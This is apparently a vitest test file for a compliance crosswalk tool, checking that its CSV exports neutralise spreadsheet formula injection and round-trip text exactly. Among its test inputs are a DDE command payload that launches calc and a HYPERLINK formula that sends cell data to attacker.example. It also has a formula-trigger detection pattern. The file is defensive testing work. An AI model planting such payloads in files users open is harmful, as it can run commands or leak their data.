import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { contentDirs } from '../../server/config.js';
import { loadContent } from '../../server/content/loadContent.js';
import { statementOfApplicability } from '../../server/domain/analysis/statementOfApplicability.js';
import type { Mapping } from '../../server/domain/schemas/mapping.js';
import type { OrgControl } from '../../server/domain/schemas/orgControl.js';
import type { SoaEntry } from '../../server/domain/schemas/soa.js';
import { exportControlSetCsv, importControlSetCsv } from '../../server/exports/controlSetExport.js';
import { EVIDENCE_CSV_COLUMNS, exportEvidenceCsv, parseEvidenceCsv } from '../../server/exports/evidenceCsv.js';
import { exportSoaCsv, importSoaCsv } from '../../server/exports/soaExport.js';
import { neutralizeFormula, readCsv, restoreFormula, toCsv } from '../../server/interop/csv.js';
import { CROSSWALK_CSV_EXPORT_COLUMNS, exportCsvCrosswalk, importCsvCrosswalk } from '../../server/interop/csvCrosswalk.js';
import { exportOlirCsv } from '../../server/interop/olirCsv.js';
import { exportXlsxCrosswalk } from '../../server/interop/xlsx.js';
import { richBundle } from './fixtures.js';
import { comparable, loadImported } from './helpers.js';

/** What a spreadsheet could evaluate: a cell starting with one of OWASP's formula triggers. */
const STARTS_LIKE_A_FORMULA = /^[=+\-@\t\r]/;
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

/** Every cell of a CSV as a spreadsheet would see it (no unescaping of ours). */
const rawCells = (csv: string) => (parse(csv, { relax_column_count: true }) as string[][]).flat();

/** A one-column CSV with a header, written and read back by Crosswalk's own writer and reader. */
const roundTrip = (value: string) => {
  const { rows, problems } = readCsv(toCsv([['value', 'marker'], [value, 'x']]), 'x.csv');
  expect(problems).toEqual([]);
  return rows[0]!.values.value;
};

const TRICKY = [
  "=cmd|' /C calc'!A0", '+1', '-2', '@SUM(A1)', '\t=1', "'=x", "''+y", 'plain', 'a=b', '',
  '=', '-', "'", "''", "'''=z", "'quoted'", "it's", '\r=1', '\r\n=1', ' =1', '=1,2', '=HYPERLINK("http://x.example","y")',
  '-3', '- a list item\n- another', "'\t", '\t', '@', '==', "'a'=b", '=\n', 'x\n=1',
];

describe('neutralizeFormula / restoreFormula', () => {
  it('adds one apostrophe before each formula trigger, after any apostrophes already there', () => {
    for (const t of TRIGGERS) {
      expect(neutralizeFormula(`${t}1`)).toBe(`'${t}1`);
      expect(neutralizeFormula(`'${t}1`)).toBe(`''${t}1`);
      expect(neutralizeFormula(`''${t}1`)).toBe(`'''${t}1`);
      expect(STARTS_LIKE_A_FORMULA.test(neutralizeFormula(`${t}1`))).toBe(false);
    }
  });

  it('leaves every other text alone', () => {
    for (const text of ['plain', 'a=b', '', "'", "''", "'quoted'", "it's", ' =1', '1-2', 'A.6.2.4', 'GOVERN 1.1', '—dash'])
      expect(neutralizeFormula(text)).toBe(text);
  });

  it('restores exactly one apostrophe, and only before a trigger', () => {
    expect(restoreFormula("'=1+1")).toBe('=1+1');
    expect(restoreFormula("''=x")).toBe("'=x");
    expect(restoreFormula("'''@y")).toBe("''@y");
    for (const t of TRIGGERS) expect(restoreFormula(`'${t}1`)).toBe(`${t}1`);
    for (const text of ["'plain'", "'", "''", "it's", '=1+1', 'plain', '']) expect(restoreFormula(text)).toBe(text);
  });

  it('is a lossless escape: restore(neutralize(x)) === x for every combination of apostrophes, first characters and tails', () => {
    const firsts = [...TRIGGERS, "'", 'a', ' ', '\n', '"', ',', ''];
    const tails = ['', '1+1', "'", ',"x"\n=2', ' '];
    const inputs = new Set<string>(TRICKY);
    for (const apostrophes of ['', "'", "''", "'''"]) for (const first of firsts) for (const tail of tails) inputs.add(`${apostrophes}${first}${tail}`);
    const written = new Set<string>();
    for (const x of inputs) {
      const w = neutralizeFormula(x);
      expect(restoreFormula(w)).toBe(x);
      expect(STARTS_LIKE_A_FORMULA.test(w)).toBe(false);
      written.add(w);
    }
    expect(written.size).toBe(inputs.size); // injective: no two texts are written the same way
  });
});

describe('toCsv / readCsv', () => {
  it('writes neutralised cells that no spreadsheet would evaluate, quoting as before', () => {
    const csv = toCsv([['h1', 'h2'], ['=1+1', '+1'], ['-2', '@SUM(A1)'], ['\t=1', '\r=1'], ["'=x", 'plain']]);
    expect(csv).toBe(`h1,h2\n'=1+1,'+1\n'-2,'@SUM(A1)\n'\t=1,"'\r=1"\n''=x,plain\n`);
    expect(rawCells(csv).filter((cell) => STARTS_LIKE_A_FORMULA.test(cell))).toEqual([]);
  });

  it('writes finite numbers passed as numbers unchanged: a negative number is a value, not a formula', () => {
    expect(toCsv([[-3, 2.5, 0, '-3', undefined]])).toBe("-3,2.5,0,'-3,\n");
    expect(toCsv([[-Infinity]])).toBe("'-Infinity\n");
  });

  it('reads the apostrophe back off, in the header as in the rows', () => {
    const { header, rows } = readCsv(`'=h,b\n'=1+1,''=x\n"'@a, b",'plain\n`, 'x.csv');
    expect(header).toEqual(['=h', 'b']);
    expect(rows.map((r) => r.values)).toEqual([{ '=h': '=1+1', b: "'=x" }, { '=h': '@a, b', b: "'plain" }]);
  });

  it('round-trips tricky strings exactly: read(write(x)) === x', () => {
    for (const x of TRICKY) expect(roundTrip(x), JSON.stringify(x)).toBe(x);
  });
});

describe('exports and imports with formula-like text', () => {
  const formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';

  it('crosswalk CSV: a note starting with "=" is written neutralised and imports back as the original text', () => {
    const bundle = richBundle();
    const [first, second, ...rest] = bundle.mappings as [Mapping, Mapping, ...Mapping[]];
    const mappings: Mapping[] = [
      { ...first, note: formula, reviewNote: "@SUM(A1) and '=x" },
      { ...second, note: "'=already quoted", reviewNote: '-1 point for wording' },
      ...rest,
    ];
    const csv = exportCsvCrosswalk(mappings);
    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""Click"")"`);
    const cells = parse(csv, { columns: true }) as Array<Record<string, string>>;
    expect(cells[0]).toMatchObject({ note: `'${formula}`, review_note: "'@SUM(A1) and '=x" });
    expect(cells[1]).toMatchObject({ note: "''=already quoted", review_note: "'-1 point for wording" });
    expect(rawCells(csv).filter((cell) => STARTS_LIKE_A_FORMULA.test(cell))).toEqual([]);

    const imported = importCsvCrosswalk(csv, { file: 'imports/formula.csv', today: '2026-05-01' });
    expect(imported.problems).toEqual([]);
    const loaded = loadImported(imported).mappings;
    expect(comparable(loaded)).toEqual(comparable(mappings));
    const byId = new Map(loaded.map((m) => [m.id, m]));
    expect(byId.get(first.id)).toMatchObject({ note: formula, reviewNote: "@SUM(A1) and '=x" });
    expect(byId.get(second.id)).toMatchObject({ note: "'=already quoted", reviewNote: '-1 point for wording' });
    expect(exportCsvCrosswalk(mappings.map((m) => byId.get(m.id)!))).toBe(csv);
  });

  it('crosswalk CSV: a third-party file with a raw "=" note imports as is, then exports neutralised and round-trips', () => {
    const header = 'source_framework,source_ref,target_framework,target_ref,relationship,rationale,strength,note';
    const options = { file: 'imports/acme.csv', today: '2026-05-01' };
    const first = importCsvCrosswalk(`${header}\nfw-a,1.1,fw-b,B-1,equal,semantic,10,=1+1\n`, options);
    const [mapping] = loadImported(first).mappings;
    expect(mapping!.note).toBe('=1+1');
    const exported = exportCsvCrosswalk([mapping!]);
    expect(exported.split('\n')[1]).toMatch(/,'=1\+1,/);
    const again = loadImported(importCsvCrosswalk(exported, options)).mappings;
    expect(exportCsvCrosswalk(again)).toBe(exported);
  });

  it('OLIR CSV: requirement titles and notes starting with a trigger are neutralised', () => {
    const bundle = richBundle();
    const requirements = bundle.requirements.map((r) => (r.id === 'fw-a:1.1' ? { ...r, title: '=1+1' } : r.id === 'fw-b:B-1' ? { ...r, title: '@evil' } : r));
    const mappings = bundle.mappings.map((m) => (m.source === 'fw-a:1.1' && m.target === 'fw-b:B-1' ? { ...m, note: '+note' } : m));
    const csv = exportOlirCsv({ focal: 'fw-a', reference: 'fw-b', mappings, requirements });
    const row = (parse(csv, { columns: true }) as Array<Record<string, string>>).find((r) => r['Focal Document Element'] === '1.1' && r['Reference Document Element'] === 'B-1')!;
    expect(row).toMatchObject({ 'Focal Document Element Description': "'=1+1", 'Reference Document Element Description': "'@evil" });
    expect(row.Comments).toMatch(/\+note$/); // not at the start of the cell: left as it is
    expect(rawCells(csv).filter((cell) => STARTS_LIKE_A_FORMULA.test(cell))).toEqual([]);
  });

  it('evidence CSV: titles and descriptions come back unchanged', () => {
    const header = EVIDENCE_CSV_COLUMNS.join(',');
    const text = `${header}\nEV-1,=1+1,log,@owner,https://x.example/a,2026-01-10,,,"-2, then ""=3""",,,+note\n`;
    const first = parseEvidenceCsv(text, { file: 'a.csv' });
    expect(first.problems).toEqual([]);
    expect(first.evidence[0]).toMatchObject({ title: '=1+1', owner: '@owner', description: '-2, then "=3"' });
    const csv = exportEvidenceCsv(first.evidence, first.links);
    expect(csv.split('\n')[1]).toBe(`EV-1,'=1+1,log,'@owner,https://x.example/a,2026-01-10,,,"'-2, then ""=3""",,,`);
    expect(parseEvidenceCsv(csv, { file: 'b.csv' })).toEqual(first);
  });

  describe('with the shipped content', () => {
    const { bundle } = loadContent(contentDirs({ dataDir: '/nonexistent-crosswalk-data' }));
    const requirementIds = new Set(bundle.requirements.map((r) => r.id));

    it('SoA CSV: a justification starting with a trigger is neutralised and re-imports to the same decision', () => {
      const entries: SoaEntry[] = [
        { frameworkId: 'iso42001-2023', requirementId: 'iso42001-2023:A.2.2', applicable: true, justification: '=cmd|\' /C calc\'!A0', implementationStatus: 'implemented', updatedAt: '2026-05-01T00:00:00Z' },
        { frameworkId: 'iso42001-2023', requirementId: 'iso42001-2023:A.7.6', applicable: false, justification: "'-no models trained", implementationStatus: 'not-started' },
      ];
      const csv = exportSoaCsv(statementOfApplicability({ frameworkId: 'iso42001-2023', requirements: bundle.requirements, entries, asOf: '2026-06-01' }));
      expect(csv).toContain(`,'=cmd|' /C calc'!A0,`);
      expect(csv).toContain(`,''-no models trained,`);
      expect(rawCells(csv).filter((cell) => STARTS_LIKE_A_FORMULA.test(cell))).toEqual([]);
      expect(importSoaCsv(csv, { file: 'soa.csv', frameworkId: 'iso42001-2023', knownRequirementIds: requirementIds })).toEqual({ entries, problems: [] });
    });

    it('control set CSV: titles and descriptions starting with a trigger re-import unchanged', () => {
      const controls: OrgControl[] = [
        { id: 'UC-1', title: '@Inventory', description: '=1+1', origin: 'user', createdAt: '2026-01-01T00:00:00Z', updatedAt: '2026-01-02T00:00:00Z', requirementIds: ['iso42001-2023:A.2.2', 'iso27001-2022:A.5.1'] },
        { id: 'UC-2', title: "'+quoted", description: '', origin: 'user', createdAt: '2026-01-01T00:00:00Z', updatedAt: '2026-01-01T00:00:00Z', requirementIds: ['iso42001-2023:A.7.6'] },
      ];
      const csv = exportControlSetCsv({ controls, requirements: bundle.requirements });
      expect(csv.split('\n')[1]).toMatch(/^UC-1,'@Inventory,'=1\+1,/);
      expect(rawCells(csv).filter((cell) => STARTS_LIKE_A_FORMULA.test(cell))).toEqual([]);
      expect(importControlSetCsv(csv, { file: 'set.csv', knownRequirementIds: requirementIds })).toEqual({ controls, problems: [] });
    });
  });

  it('XLSX stays unescaped: formula-like text is written as a plain string cell, never as a formula', async () => {
    const { frameworks, mappings } = richBundle();
    const withFormula = mappings.map((m, i) => (i === 0 ? { ...m, note: formula, reviewNote: '@SUM(A1)' } : m));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await exportXlsxCrosswalk({ frameworks, mappings: withFormula, generatedAt: '2026-06-01T12:00:00Z' })) as unknown as ArrayBuffer);
    const types = new Set<ExcelJS.ValueType>();
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void types.add(cell.type))));
    expect(types.has(ExcelJS.ValueType.Formula)).toBe(false);
    const row = workbook.getWorksheet('Crosswalk')!.getRow(2);
    for (const [column, text] of [['note', formula], ['review_note', '@SUM(A1)']] as const) {
      const cell = row.getCell(CROSSWALK_CSV_EXPORT_COLUMNS.indexOf(column) + 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(text);
    }
  });
});
